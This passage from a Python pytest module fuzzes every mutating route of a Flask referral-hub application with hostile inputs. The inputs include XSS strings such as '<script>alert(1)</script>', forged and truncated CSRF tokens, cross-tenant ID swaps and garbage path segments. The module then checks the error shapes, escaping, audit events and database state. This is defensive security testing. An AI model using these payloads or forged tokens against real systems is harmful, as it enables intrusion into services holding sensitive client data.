        "/admin/webhooks/{own_webhook}/disable",
        "admin",
        foreign={"own_webhook": ("other_webhook",)},
    ),
    Target("admin.new_service", "POST", "page", "/admin/services/new", "admin"),
    Target(
        "admin.service",
        "POST",
        "page",
        "/admin/services/{own_service}",
        "admin",
        foreign={"own_service": ("other_service",)},
    ),
    Target("admin.update_agency", "POST", "page", "/admin/agency", "admin"),
    Target("admin.update_sso", "POST", "page", "/admin/sso", "admin"),
    Target("admin.agency_status", "POST", "page", "/admin/agency/status", "hub_admin"),
    Target("admin.agency_participation", "POST", "page", "/admin/agency/participation", "admin"),
    Target(
        "bundles.new",
        "POST",
        "page",
        "/intake/bundles/new?client={own_client}&consent={own_consent}",
        "intake",
    ),
    Target(
        "bundles.hand_over",
        "POST",
        "page",
        "/intake/bundles/{own_bundle}/assign",
        "intake",
        foreign={"own_bundle": ("other_referral",)},
    ),
    Target(
        "bundles.post_message",
        "POST",
        "page",
        "/intake/bundles/{own_bundle}/referrals/{{bundle_referral}}/messages",
        "intake",
    ),
    Target(
        "bundles.provide_info",
        "POST",
        "page",
        "/intake/bundles/{own_bundle}/referrals/{{bundle_referral}}/provide-info",
        "intake",
    ),
    Target(
        "bundles.withdraw",
        "POST",
        "page",
        "/intake/bundles/{own_bundle}/referrals/{{bundle_referral}}/withdraw",
        "intake",
    ),
    Target(
        "bundles.refer_again",
        "POST",
        "page",
        "/intake/bundles/{own_bundle}/referrals/{{bundle_referral}}/refer-again",
        "intake",
    ),
    Target(
        "outside.refer",
        "POST",
        "page",
        "/intake/outside/clients/{own_client}",
        "intake",
        foreign={"own_client": ("other_client",)},
        private={"organisation_id": ("other_organisation",)},
    ),
    Target(
        "outside.add_organisation",
        "POST",
        "page",
        "/intake/outside/clients/{own_client}/organisations",
        "intake",
        foreign={"own_client": ("other_client",)},
    ),
    Target(
        "outside.issue_link",
        "POST",
        "page",
        "/intake/outside/{own_outside}/links",
        "intake",
        foreign={"own_outside": ("other_outside",)},
    ),
    Target(
        "outside.revoke_link",
        "POST",
        "page",
        "/intake/outside/{own_outside}/links/{own_link}/revoke",
        "intake",
        foreign={"own_outside": ("other_outside",), "own_link": ("other_link",)},
    ),
    Target(
        "outside.withdraw",
        "POST",
        "page",
        "/intake/outside/{own_outside}/withdraw",
        "intake",
        foreign={"own_outside": ("other_outside",)},
    ),
    # the outside worker's answer through the link: no account, the token is the door
    Target("outside_link.answer", "POST", "page", "/o/{own_link_token}", "intake"),
    Target("coordinator.verify_chain", "POST", "page", "/network/audit/verify", "coordinator"),
    Target(
        "coordinator.nudge",
        "POST",
        "page",
        "/network/in-limbo/{own_referral}/nudge",
        "coordinator",
        lambda w: {"to": "receiver"},
    ),
    Target(
        "coordinator.verify_whole_chain",
        "POST",
        "page",
        "/network/audit/verify/full",
        "coordinator",
    ),
    Target(
        "intake.consent",
        "POST",
        "page",
        "/intake/clients/{own_client}/consent",
        "intake",
        foreign={"own_client": ("other_client",)},
    ),
    Target("intake.new_client", "POST", "page", "/intake/clients/new", "intake"),
    Target(
        "her_access.issue",
        "POST",
        "page",
        "/intake/clients/{her_client}/access-code",
        "intake",
        foreign={"her_client": ("other_client",)},
    ),
    Target(
        "her_access.confirm_erasure",
        "POST",
        "page",
        "/intake/erasure-requests/{own_erasure_request}/confirm",
        "intake",
        foreign={"own_erasure_request": ("other_erasure_request",)},
    ),
    Target(
        "me.withdraw",
        "POST",
        "page",
        "/me/withdraw",
        SURVIVOR,
        # someone else's consent, an agency no consent of hers names: as missing (404)
        private={
            "consent_id": ("own_consent", "other_consent"),
            "agency_id": ("own", "other"),
        },
    ),
    Target("me.erase", "POST", "page", "/me/erase", SURVIVOR),
    Target("me.contact", "POST", "page", "/me/contact", SURVIVOR),
    Target("intake.plan_add", "POST", "page", "/intake/plan", "intake"),
    Target("intake.plan_remove", "POST", "page", "/intake/plan/remove", "intake"),
    Target(
        "intake.revoke",
        "POST",
        "page",
        "/intake/clients/{own_client}/consents/{own_consent}/revoke",
        "intake",
        foreign={"own_client": ("other_client",), "own_consent": ("other_consent",)},
    ),
    Target(
        "provider.act",
        "POST",
        "page",
        "/provider/referrals/{other_referral}/request-info",
        "provider",
        foreign={"other_referral": ("own_referral",)},
    ),
    Target(
        "provider.message",
        "POST",
        "page",
        "/provider/referrals/{other_referral}/messages",
        "provider",
        foreign={"other_referral": ("own_referral",)},
    ),
    Target(
        "provider.hand_over",
        "POST",
        "page",
        "/provider/referrals/{other_referral}/assign",
        "provider",
        foreign={"other_referral": ("own_referral",)},
    ),
    Target(
        "provider.capacity_set",
        "POST",
        "page",
        "/provider/capacity/{own_service}/set",
        "provider",
        foreign={"own_service": ("other_service", "third_service")},
    ),
    Target(
        "provider.capacity_hold",
        "POST",
        "page",
        "/provider/capacity/{own_service}/hold",
        "provider",
        foreign={"own_service": ("other_service", "third_service")},
    ),
    Target(
        "provider.overflow_open",
        "POST",
        "page",
        "/provider/capacity/{own_service}/overflow",
        "provider",
        foreign={"own_service": ("other_service", "third_service")},
    ),
    Target(
        "provider.overflow_close",
        "POST",
        "page",
        "/provider/overflow/{own_overflow}/close",
        "provider",
        foreign={"own_overflow": ("other_overflow",)},
    ),
    Target(
        "provider.extend_hold",
        "POST",
        "page",
        "/provider/referrals/{other_accepted}/extend-hold",
        "provider",
        foreign={"other_accepted": ("own_accepted", "own_referral")},
    ),
    Target(
        "provider.capacity_less",
        "POST",
        "page",
        "/provider/capacity/{own_service}/less",
        "provider",
        foreign={"own_service": ("other_service", "third_service")},
    ),
    Target(
        "provider.capacity_more",
        "POST",
        "page",
        "/provider/capacity/{own_service}/more",
        "provider",
        foreign={"own_service": ("other_service", "third_service")},
    ),
    Target(
        "provider.capacity_confirm",
        "POST",
        "page",
        "/provider/capacity/{own_service}/confirm",
        "provider",
        foreign={"own_service": ("other_service", "third_service")},
    ),
]


def error_id(name: str) -> str:
    """The id `_macros.html` gives a field's error (`f-profile-age-error`)."""
    return f"f-{name.replace('.', '-')}-error"


def page_corpus(target: Target, w: World) -> list[Case]:
    spec = PAGE_FORMS[target.endpoint]
    path = target.url(w)
    valid = spec.valid(w)
    cases: list[Case] = []

    def add(
        label: str, category: str, pairs: list[tuple[str, str]], csrf: str | None, **kw: Any
    ) -> None:
        full = pairs + ([("csrf_token", csrf)] if csrf is not None else [])
        cases.append(
            Case(
                label,
                category,
                "POST",
                kw.pop("path", path),
                form(full),
                FORM,
                headers=spec.headers,
                via="session",
                acting=False,
                **kw,
            )
        )

    def replaced(name: str, value: str) -> list[tuple[str, str]]:
        kept = [(k, v) for k, v in valid if k != name]
        return [*kept, (name, value)]

    add("the valid form", "baseline", valid, "{csrf}", outcome=spec.baseline)
    for index, name in enumerate(spec.free):
        values = (
            {**STRINGS, **FREE_EXTRA}
            if index == 0
            else {**{k: STRINGS[k] for k in SAMPLE}, **FREE_EXTRA}
        )
        for label, value in values.items():
            # NUL never reaches a column; the rest may be taken (then shown escaped)
            outcome = REJECT if "\x00" in value and name not in spec.nul_kept else EITHER
            add(
                f"{name}: {label}",
                "injection" if label in INJECTION else "free text",
                replaced(name, value),
                "{csrf}",
                outcome=outcome,
                sent=value,
                sent_at=(name,) if name in spec.shown else (),
            )
    for name, kind in spec.strict.items():
        for label, value in STRICT_VALUES[kind].items():
            loose = "~" if name in spec.loose_names else ""
            marked = None if name in spec.unmarked else loose + name
            if loose and "\x00" in value:
                marked = None  # refused by the form's own name, which this page's markup lacks
            add(
                f"{name}: {label}",
                "field value",
                replaced(name, value),
                "{csrf}",
                names=marked,
                sent=value,
            )
    if "agency" in spec.strict:  # another tenant picked by an agency administrator
        add(
            "agency: another tenant",
            "other tenant",
            replaced("agency", w.other),
            "{csrf}",
            outcome=REJECT if target.person != "hub_admin" else EITHER,
        )
    for param, others in target.foreign.items():
        for other in others:
            add(
                f"{param}: {other}",
                "other tenant",
                valid,
                "{csrf}",
                path=target.url(w, **{param: getattr(w, other)}),
                # a service (and its overflow places) is in the public directory: not yours
                # is a 403, not a 404
                statuses=frozenset(
                    {403, 404} if other.endswith(("_service", "_overflow")) else {404}
                ),
            )
        add(
            f"{param}: missing",
            "missing id",
            valid,
            "{csrf}",
            path=target.url(w, **{param: str(uuid.uuid4())}),
            statuses=frozenset({404}),
        )
        for label, segment in itertools.islice(GARBAGE_SEGMENTS.items(), 4):
            add(
                f"{param}: {label}",
                "garbage id",
                valid,
                "{csrf}",
                path=target.url(w, **{param: urllib.parse.quote(segment, safe="")}),
                statuses=frozenset({404, 405}),
            )
    # ids in the form that must be the caller's own: one at a time (the form's other such
    # ids left out, so that this one decides), answered as missing
    for name, others in target.private.items():
        alone = [(k, v) for k, v in valid if k not in target.private]
        for other in (*others, "missing"):
            value = str(uuid.uuid4()) if other == "missing" else getattr(w, other)
            add(
                f"{name}: {other}",
                "other tenant",
                [*alone, (name, value)],
                "{csrf}",
                statuses=frozenset({404}),
            )
    # fields the form does not have, and server-owned ones: ignored or refused, never taken
    junk_names = ("is_admin", "agency_id", "id", "status_override", "created_at")
    junk = [(name, "<script>alert(1)</script>") for name in junk_names]
    add("server-owned and unknown fields", "server-owned", valid + junk, "{csrf}", outcome=EITHER)
    forged = {
        "missing": None,
        "empty": "",
        "garbage": "garbage",
        "another session's": "{foreign_csrf}",
        "last character changed": "{csrf_flipped}",
        "truncated": "{csrf_truncated}",
        "with a suffix": "{csrf}x",
        "injection": "<script>alert(1)</script>",
        "1,000 characters": "x" * 1000,
    }
    names = [k for k, _ in valid] or ["note"]
    payloads = {"the valid form": valid}
    for label, value in itertools.islice(HOSTILE_VALUES.items(), 0, 20):
        payloads[f"fields {label}"] = [(k, value) for k in names] + junk
    for csrf_label, token in forged.items():
        for payload_label, pairs in payloads.items():
            add(
                f"CSRF {csrf_label}, {payload_label}",
                "CSRF",
                pairs,
                token,
                statuses=frozenset({403}),
            )
    for label, (raw, content_type) in form_body_variants(
        {**dict(valid or [("note", "x")]), "csrf_token": "{csrf}"}
    ).items():
        # the same form in another shape may be read (then it is taken or refused as a whole)
        cases.append(
            Case(
                f"body {label}",
                "encoding",
                "POST",
                path,
                raw,
                content_type,
                via="session",
                acting=False,
                outcome=REJECT
                if label == "NUL in a field"
                and valid
                and not spec.headers
                and valid[0][0] not in spec.nul_kept
                else EITHER,
            )
        )
    return cases


TARGETS.update(
    {
        t.endpoint: t
        for t in API_TARGETS + OAUTH_TARGETS + FORM_TARGETS + PAGE_TARGETS + FHIR_TARGETS
    }
)


def corpus(app: Flask, target: Target, w: World) -> list[Case]:
    if target.kind == "fhir":
        return fhir_corpus(target, w)
    if target.kind == "api":
        return api_corpus(target, w, schema_of(app, target))
    if target.kind == "oauth":
        return oauth_corpus(target, w)
    if target.kind == "page":
        return page_corpus(target, w)
    return form_corpus(target, w)


# --- invariants ---------------------------------------------------------------------------------

PROBLEM = "application/problem+json"
PROBLEM_KEYS = {"type", "title", "status", "detail", "code", "request_id"}


def problem_faults(response: Any, case: Case) -> list[str]:
    """What is wrong with an API error response, against the documented problem shape."""
    if response.mimetype != PROBLEM:
        return [f"error is {response.mimetype or 'untyped'}, not {PROBLEM}"]
    try:
        body = json.loads(response.get_data())
    except ValueError:
        return ["problem body is not JSON"]
    faults = []
    if not isinstance(body, dict) or not set(body) >= PROBLEM_KEYS:
        return [f"problem lacks {sorted(PROBLEM_KEYS - set(body or {}))}"]
    if body["status"] != response.status_code:
        faults.append(f"problem status {body['status']} != {response.status_code}")
    if not (isinstance(body["code"], str) and body["type"] == f"/problems/{body['code']}"):
        faults.append(f"problem type/code mismatch: {body['type']!r} / {body['code']!r}")
    if not (
        isinstance(body["title"], str)
        and body["title"]
        and isinstance(body["detail"], str)
        and body["detail"]
    ):
        faults.append("problem without title or detail")
    if body["request_id"] != response.headers.get("X-Request-Id"):
        faults.append("problem request_id differs from X-Request-Id")
    errors = body.get("errors")
    if errors is not None and not (
        isinstance(errors, dict)
        and all(
            isinstance(k, str) and isinstance(v, list) and all(isinstance(m, str) for m in v)
            for k, v in errors.items()
        )
    ):
        faults.append(f"errors is not {{field: [message]}}: {errors!r}"[:200])
    if body["code"] == "validation_error" and not errors:
        faults.append("validation error names no field")
    if case.names and errors and not any(names_field(key, case.names) for key in errors):
        faults.append(f"errors {sorted(errors)[:5]} do not name {case.names!r}")
    if response.status_code == 401 and "WWW-Authenticate" not in response.headers:
        faults.append("401 without WWW-Authenticate")
    return faults


def outcome_faults(response: Any, case: Case) -> list[str]:
    """What is wrong with a FHIR error response: it must be an OperationOutcome that the
    R4B model parses, naming the element where the case names one."""
    from fhir.resources.R4B.operationoutcome import OperationOutcome

    if response.mimetype != "application/fhir+json":
        return [f"error is {response.mimetype or 'untyped'}, not application/fhir+json"]
    try:
        outcome = OperationOutcome.model_validate(json.loads(response.get_data()))
    except ValueError as error:
        return [f"not an OperationOutcome: {str(error)[:200]}"]
    faults = []
    if not outcome.issue or any(issue.severity != "error" for issue in outcome.issue):
        faults.append("an OperationOutcome without error issues")
    expressions = [e for issue in outcome.issue for e in issue.expression or []]
    if case.names and not any(names_field(e or "", case.names) for e in expressions):
        faults.append(f"issues {expressions[:5]} do not name {case.names!r}")
    if response.status_code == 401 and "WWW-Authenticate" not in response.headers:
        faults.append("401 without WWW-Authenticate")
    return faults


def names_field(key: str, expected: str) -> bool:
    """Does an `errors` key name the field (dotted path, `$.`/`[i]` spellings allowed)?"""
    key = re.sub(r"\[(\d+)\]", r".\1", key.removeprefix("$.").removeprefix("json."))
    return key == expected or key.startswith(expected + ".") or expected.startswith(key + ".")


def response_faults(response: Any, case: Case, kind: str) -> list[str]:
    status = response.status_code
    text = response.get_data(as_text=True)
    faults = []
    if status >= 500:
        return [f"{status}"]
    if "Traceback" in text or 'File "/' in text:
        faults.append("traceback in the body")
    if not response.headers.get("X-Request-Id"):
        faults.append("no X-Request-Id")
    if case.outcome == REJECT and status < 400:
        faults.append(f"accepted ({status})")
    elif case.outcome == ACCEPT and status >= (400 if kind == "page" else 300):  # pages redirect
        faults.append(f"valid request refused ({status}: {text[:200]})")
    elif case.statuses and status not in case.statuses and case.outcome != ACCEPT:
        faults.append(f"status {status}, expected {sorted(case.statuses)}")
    if status >= 400:
        if kind == "fhir":
            faults += outcome_faults(response, case)
        elif kind == "api" or response.mimetype == PROBLEM:
            faults += problem_faults(response, case)
        elif kind == "oauth":
            try:
                body = json.loads(text)
            except ValueError:
                body = None
            if response.mimetype != "application/json" or not (
                isinstance(body, dict) and isinstance(body.get("error"), str)
            ):
                faults.append(f"OAuth error is not an RFC 6749 error object ({response.mimetype})")
        elif response.mimetype != "text/html":
            faults.append(f"staff page error is {response.mimetype}, not HTML or a problem")
    elif 200 <= status < 300 and kind == "api" and case.sent_at and isinstance(case.sent, str):
        shown = json.loads(text)
        for part in case.sent_at:
            shown = shown.get(part) if isinstance(shown, dict) else None
        if isinstance(shown, str) and shown not in (case.sent, case.sent.strip()):
            faults.append(f"accepted but echoed as {shown!r}, not verbatim")
    return faults


# --- the database fingerprint -------------------------------------------------------------------

AUDIT_TABLES = {"audit_event", "audit_head", "audit_checkpoint", "audit_verification"}
# the record of a read, not of a change: a refused form at her door shows her page again
# (who holds what about her), and every showing of it is recorded
READ_RECORDS = {"survivor.viewed_holders"}
COUNTERS = {"rate_limit_counter"}
VOLATILE_COLUMNS = {("staff_session", "last_seen_at")}
_reflected: dict[tuple[str, str], list[Table]] = {}


def connection_of(bind: str | None) -> Connection:
    """The test's connection for a bind (the `session` fixture put it where the engine was)."""
    return cast(Connection, db.engines[bind])


def _tables(bind: str | None) -> list[Table]:
    connection = connection_of(bind)
    key = (connection.dialect.name, bind or "")
    if key not in _reflected:
        if bind == "keys":
            from referral_hub.core.keystore import KeysBase

            tables = list(KeysBase.metadata.sorted_tables)
        else:
            from referral_hub.core.keystore import KeysBase

            metadata = MetaData()
            metadata.reflect(connection)
            tables = [t for t in metadata.sorted_tables if t.name not in KeysBase.metadata.tables]
        _reflected[key] = tables
    return _reflected[key]


def fingerprint() -> dict[str, tuple[int, str]]:
    """Row count and content hash of every table but the audit ones and the counters."""
    result = {}
    for bind in (None, "keys"):
        connection = connection_of(bind)
        for table in _tables(bind):
            if table.name in AUDIT_TABLES | COUNTERS:
                continue
            columns = [c for c in table.columns if (table.name, c.name) not in VOLATILE_COLUMNS]
            order = list(table.primary_key.columns) or columns
            rows = connection.execute(select(*columns).order_by(*order)).all()
            steady = [_steady(table, columns, row) for row in rows]
            digest = hashlib.sha256(repr(steady).encode()).hexdigest()
            result[f"{bind or 'main'}.{table.name}"] = (len(rows), digest[:16])
    return result


def _steady(table: Table, columns: list[Any], row: Any) -> tuple[Any, ...]:
    """A row as the fingerprint reads it: a session's data without her idle clock."""
    values = list(row)
    if table.name == "staff_session":
        index = [column.name for column in columns].index("data")
        data = values[index]
        data = json.loads(data) if isinstance(data, str) else data
        if isinstance(data, dict) and isinstance(data.get("me"), dict):
            values[index] = {**data, "me": {k: v for k, v in data["me"].items() if k != "seen"}}
    return tuple(values)


def audit_head() -> int:
    connection = connection_of(None)
    return int(
        connection.execute(
            select(_table("audit_event").c.seq)
            .order_by(_table("audit_event").c.seq.desc())
            .limit(1)
        ).scalar()
        or 0
    )


def _table(name: str) -> Table:
    return next(t for t in _tables(None) if t.name == name)


def non_denial_events(after: int) -> list[str]:
    """Audit events since `after` that are not the record of a refusal."""
    events = _table("audit_event")
    rows = (
        connection_of(None)
        .execute(
            select(events.c.action, events.c.outcome)
            .where(events.c.seq > after)
            .order_by(events.c.seq)
        )
        .all()
    )
    return [
        f"{action} ({outcome})"
        for action, outcome in rows
        if outcome not in ("denied", "failure") and action not in READ_RECORDS
    ]


def diff(before: dict[str, tuple[int, str]], after: dict[str, tuple[int, str]]) -> str:
    return ", ".join(
        f"{name} rows {before.get(name, (0, ''))[0]}->{after.get(name, (0, ''))[0]}"
        for name in sorted(set(before) | set(after))
        if before.get(name) != after.get(name)
    )


# --- the runner ---------------------------------------------------------------------------------


@dataclass
class Runner:
    """Sends cases, checks each answer, and checks the fingerprint every CHUNK requests."""

    app: Flask
    clients: dict[str, FlaskClient]
    actor: Actor | None
    fill: dict[str, str]
    kind: str
    acting: list[Actor | None] = field(default_factory=lambda: [None])
    failures: list[str] = field(default_factory=list)
    sent: int = 0

    def _savepoints(self) -> list[Any]:
        return [connection_of(bind).begin_nested() for bind in (None, "keys")]

    def send(self, case: Case) -> Any:
        self.acting[0] = self.actor if case.acting else None
        headers = {name: self._fill(value) for name, value in case.headers}
        if case.content_type is not None and case.body is not None:
            headers["Content-Type"] = case.content_type
        body = case.body
        if body is not None and b"{csrf" in body:
            body = self._fill(body.decode()).encode()
        if body is not None and b"%7Bcsrf" in body:  # a placeholder inside a urlencoded form
            for name, value in self.fill.items():
                quoted = urllib.parse.quote_plus(value).encode()
                body = body.replace(b"%7B" + name.encode() + b"%7D", quoted)
        self.sent += 1
        return self.clients[case.via].open(
            self._fill(case.path), method=case.method, data=body, headers=headers
        )

    def _fill(self, text: str) -> str:
        for name, value in self.fill.items():
            text = text.replace("{" + name + "}", value)
        return text

    def one(self, case: Case) -> tuple[Any, bool]:
        """Send in a savepoint: kept when refused (for the fingerprint), undone when taken."""
        savepoints = self._savepoints()
        response = self.send(case)
        taken = 200 <= response.status_code < 400 and case.outcome != NOOP
        if self.kind == "page":
            for fault in self._page_faults(response, case, taken):
                self.failures.append(f"{case.describe()}: {fault}")
        for savepoint in reversed(savepoints):
            savepoint.rollback() if taken else savepoint.commit()
        for fault in response_faults(response, case, self.kind):
            self.failures.append(f"{case.describe()}: {fault}")
        return response, taken

    def _page_faults(self, response: Any, case: Case, taken: bool) -> list[str]:
        """A staff page: the error beside the field; hostile text never shown raw, and
        taken free text shown escaped on the page the POST leads to."""
        faults = []
        text = response.get_data(as_text=True)
        if response.status_code == 422 and case.names:
            name = case.names.lstrip("~")
            mark = 'class="field-error"' if case.names.startswith("~") else error_id(name)
            if mark not in text:
                faults.append(f"422 page without the error beside {name!r}")
        sent = case.sent if isinstance(case.sent, str) else None
        shown_raw = sent is not None and any(c in sent for c in "<>\"'&")
        if shown_raw and sent in text:
            faults.append("the page shows the value raw")
        if taken and 300 <= response.status_code < 400 and sent is not None:
            followed = self.clients[case.via].get(response.headers["Location"])
            page = followed.get_data(as_text=True)
            if followed.status_code >= 500:
                faults.append(f"the page after the POST answered {followed.status_code}")
            if shown_raw and sent in page:
                faults.append("the page after the POST shows the value raw")
            if case.sent_at and sent.strip() and str(escape(sent.strip())) not in page:
                faults.append("the page after the POST does not show the value (escaped)")
        return faults

    def run(self, cases: Sequence[Case]) -> None:
        baseline, head = fingerprint(), audit_head()
        for start in range(0, len(cases), CHUNK):
            chunk = cases[start : start + CHUNK]
            chunk_savepoints = self._savepoints()
            for case in chunk:
                self.one(case)
            changed = fingerprint() != baseline or bool(non_denial_events(head))
            for savepoint in reversed(chunk_savepoints):
                savepoint.rollback()
            if changed:
                self._find_writers(chunk, baseline, head)

    def _find_writers(self, chunk: Sequence[Case], baseline: dict[str, Any], head: int) -> None:
        """A refused request in this chunk changed something: re-run them one by one."""
        found = False
        for case in chunk:
            savepoints = self._savepoints()
            response, taken = self.one(case)
            after, events = fingerprint(), non_denial_events(head)
            for savepoint in reversed(savepoints):
                savepoint.rollback()
            if not taken and (after != baseline or events):
                found = True
                self.failures.append(
                    f"{case.describe()}: refused with {response.status_code} but changed "
                    f"{diff(baseline, after) or 'nothing counted'}; audit events {events}"
                )
        if not found:
            labels = "; ".join(case.describe() for case in chunk)
            self.failures.append(
                f"a chunk changed the database but no single request did: {labels}"
            )

    def check(self, total: int) -> None:
        assert total >= MIN_INPUTS_PER_ROUTE, f"only {total} inputs"
        if self.failures:
            shown = "\n  ".join(self.failures[:100])
            more = (
                f"\n  ... and {len(self.failures) - 100} more" if len(self.failures) > 100 else ""
            )
            pytest.fail(
                f"{len(self.failures)} of {total} hostile inputs misbehaved:\n  {shown}{more}",
                pytrace=False,
            )


@pytest.fixture
def acting(app: Flask) -> Iterator[list[Actor | None]]:
    """Who acts for the next request: an actor, or None for the real credential check."""
    real = app.extensions["actor_resolver"]
    holder: list[Actor | None] = [None]
    app.extensions["actor_resolver"] = lambda: holder[0] or real()
    yield holder
    app.extensions["actor_resolver"] = real


@pytest.fixture
def unlimited(app: Flask, monkeypatch: pytest.MonkeyPatch) -> None:
    """The corpus is not about rate limits: without this most inputs would only meet a 429."""
    monkeypatch.setitem(app.config, "API_REQUESTS_PER_WINDOW", 1_000_000)
    monkeypatch.setitem(app.config, "AUTH_FAILURES_PER_WINDOW", 1_000_000)
    monkeypatch.setitem(app.config, "SURVIVOR_ADDRESS_FAILURES_PER_WINDOW", 1_000_000)
    monkeypatch.setitem(app.config, "OUTSIDE_LINK_REQUESTS_PER_WINDOW", 1_000_000)


@pytest.fixture(scope="module")
def app(worker_id: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Flask]:
    """This module's own database (overriding conftest's `app`): the world is committed
    there once, and every test still runs in conftest's rolled-back `session`."""
    with rolled_back_app(f"hostile_{worker_id}", worker_id, tmp_path_factory) as application:
        yield application


@pytest.fixture(scope="module")
def built(app: Flask) -> World:
    """Agencies A, B, C and the frozen one, their staff, systems, clients, referrals and
    tokens: built and committed once for the module instead of once per test (it is the
    same network every time, and each test's changes are rolled back with its `session`)."""
    with app.app_context():
        world = build_world(app.test_client())
        db.session.remove()
    return world


@pytest.fixture
def world(built: World, session: Any) -> World:
    return built


def flipped(token: str) -> str:
    """One character of the signature changed (not the last: it may hold only padding bits)."""
    index = token.rindex(".") + 1
    return token[:index] + ("A" if token[index] != "A" else "B") + token[index + 1 :]


def prepare(
    app: Flask, client: FlaskClient, target: Target, w: World
) -> tuple[dict[str, FlaskClient], dict[str, str]]:
    """The session client the target needs (signed in, or half-way), and its CSRF tokens."""
    stranger = app.test_client()
    foreign_csrf = factories.csrf_from(stranger.get("/login").get_data(as_text=True))
    session_client = app.test_client()
    person = w.people.get(target.person or "intake")
    if target.endpoint in ("signin.login", "signin.forgot", "signin.reset", "signin.sso_start") or (
        target.kind == "oauth"
    ):
        csrf = factories.csrf_from(session_client.get("/login").get_data(as_text=True))
    elif target.endpoint == "me.sign_in":
        csrf = factories.csrf_from(session_client.get("/me").get_data(as_text=True))
    elif target.person == SURVIVOR:
        csrf = sign_in_at_her_door(session_client, w)
    elif target.endpoint in ("signin.code", "signin.recovery_code"):
        page = session_client.get("/login").get_data(as_text=True)
        assert person is not None
        response = session_client.post(
            "/login",
            data={
                "email": person.email,
                "password": factories.TEST_PASSWORD,
                "csrf_token": factories.csrf_from(page),
            },
        )
        assert response.headers["Location"].endswith("/login/code")
        csrf = factories.csrf_from(session_client.get("/login/code").get_data(as_text=True))
    elif target.endpoint == "signin.enrol":
        page = session_client.get("/login").get_data(as_text=True)
        assert person is not None
        response = session_client.post(
            "/login",
            data={
                "email": person.email,
                "password": factories.TEST_PASSWORD,
                "csrf_token": factories.csrf_from(page),
            },
        )
        assert response.headers["Location"].endswith("/login/enrol")
        csrf = factories.csrf_from(session_client.get("/login/enrol").get_data(as_text=True))
    else:
        assert person is not None
        csrf = sign_in(session_client, person)
        if target.endpoint == "signin.second_factor":
            session_client.get("/account/second-factor")  # the secret to enrol is made now
    extra = prepare_page(session_client, target, w, csrf) if target.kind == "page" else {}
    fill = {
        **extra,
        "csrf": csrf,
        "foreign_csrf": foreign_csrf,
        "csrf_flipped": flipped(csrf),
        "csrf_truncated": csrf[: len(csrf) // 2],
    }
    return {"plain": client, "session": session_client}, fill


def prepare_page(http: FlaskClient, target: Target, w: World, csrf: str) -> dict[str, str]:
    """What a page target needs beyond signing in: the plan in the session, the bundle's
    referral (asked a question by its receiver, so that an answer may be given)."""
    from referral_hub.referrals import service as referrals
    from referral_hub.referrals.models import Referral

    if target.endpoint in ("bundles.new", "intake.plan_remove"):
        added = http.post(
            "/intake/plan", data={"service_id": w.third_service, "back": "", "csrf_token": csrf}
        )
        assert added.status_code == 302, added.get_data(as_text=True)[:300]
        http.get("/intake/")  # shows (and so drops) the flashed message: a settled session
    if not target.endpoint.startswith("bundles."):
        return {}
    with transaction() as session:
        referral = session.scalars(
            select(Referral).where(Referral.bundle_id == uuid.UUID(w.own_bundle))
        ).one()
        referral_id = str(referral.id)
    if target.endpoint == "bundles.provide_info":
        with transaction():
            referrals.transition(
                w.people["receiver"].actor(),
                uuid.UUID(referral_id),
                "request-info",
                question="Which language does she speak?",
            )
    db.session.remove()
    return {"bundle_referral": referral_id}


# --- the tests ------------------------------------------------------------------------------


def mutating_rules(app: Flask) -> dict[str, set[str]]:
    found: dict[str, set[str]] = {}
    for rule in app.url_map.iter_rules():
        methods = set(rule.methods or ()) & MUTATING
        if methods:
            found.setdefault(rule.endpoint, set()).update(methods)
    return found


def test_every_mutating_route_is_classified(app: Flask, client: FlaskClient, session: Any) -> None:
    """A new POST/PUT/PATCH/DELETE route (or OpenAPI operation) must get a target here."""
    routes = mutating_rules(app)
    unclassified = sorted(
        f"{sorted(methods)} {endpoint}"
        for endpoint, methods in routes.items()
        if endpoint not in TARGETS or {TARGETS[endpoint].method} != methods
    )
    assert not unclassified, f"mutating routes without a hostile-input target: {unclassified}"
    stale = sorted(set(TARGETS) - set(routes))
    assert not stale, f"targets for routes that no longer exist: {stale}"
    spec = json_of(client.get("/openapi.json"))  # the published document
    rules = {
        re.sub(r"<(?:[^<>]*:)?(\w+)>", r"{\1}", rule.rule): rule.endpoint
        for rule in app.url_map.iter_rules()
        if set(rule.methods or ()) & MUTATING
    }
    for path, operations in spec["paths"].items():
        for method in operations:
            if method.upper() in MUTATING:
                endpoint = rules.get(path)
                assert endpoint in TARGETS, f"OpenAPI {method.upper()} {path} has no target"


def test_the_corpus_has_200_inputs_per_route_and_5000_in_all(app: Flask) -> None:
    world = fake_world()
    sizes = {}
    for target in TARGETS.values():
        size = len(corpus(app, target, world))
        if target.kind == "api" and target.method == "POST":
            size += len(replay_corpus(target, world, schema_of(app, target)))
        sizes[target.endpoint] = size
    small = {name: size for name, size in sizes.items() if size < MIN_INPUTS_PER_ROUTE}
    assert not small, f"routes with fewer than {MIN_INPUTS_PER_ROUTE} inputs: {small}"
    assert sum(sizes.values()) >= MIN_INPUTS_IN_ALL, sizes


@pytest.mark.parametrize("endpoint", sorted(TARGETS))
def test_hostile_inputs(
    app: Flask,
    client: FlaskClient,
    session: Any,
    acting: list[Actor | None],
    unlimited: None,
    world: World,
    endpoint: str,
) -> None:
    target = TARGETS[endpoint]
    clients, fill = prepare(app, client, target, world)
    person = world.people.get(target.person) if target.person else None
    runner = Runner(
        app,
        clients,
        person.actor() if person and target.kind in ("api", "fhir") else None,
        fill,
        target.kind,
        acting,
    )
    cases = corpus(app, target, world)
    runner.run(cases)
    total = len(cases)
    if target.kind == "api" and target.method == "POST":
        # the first request with the key is the one the others would replay
        acting[0] = runner.actor
        first = client.open(
            target.url(world),
            method="POST",
            data=dumps(target.body(world)) if target.body else None,
            headers={"Idempotency-Key": REPLAY_KEY, "Content-Type": "application/json"},
        )
        replays = replay_corpus(target, world, schema_of(app, target))
        total += len(replays)
        if first.status_code in (200, 201):
            runner.run(replays)
        else:
            runner.failures.append(f"the first request with the key: {first.status_code}")
    runner.check(total)


# --- what is accepted is stored as sent, and shown escaped -----------------------------------

STORED_TEXT = {**INJECTION, **{k: CONTROL[k] for k in ("bidi override", "ANSI escape", "CRLF")}}


def json_of(response: Any) -> Any:
    return json.loads(response.get_data())


def read(client: FlaskClient, path: str) -> Any:
    response = client.get(path)
    assert response.status_code == 200, (path, response.get_data(as_text=True)[:300])
    return json_of(response)


def test_accepted_injection_strings_are_stored_verbatim_and_rendered_escaped(
    app: Flask,
    client: FlaskClient,
    session: Any,
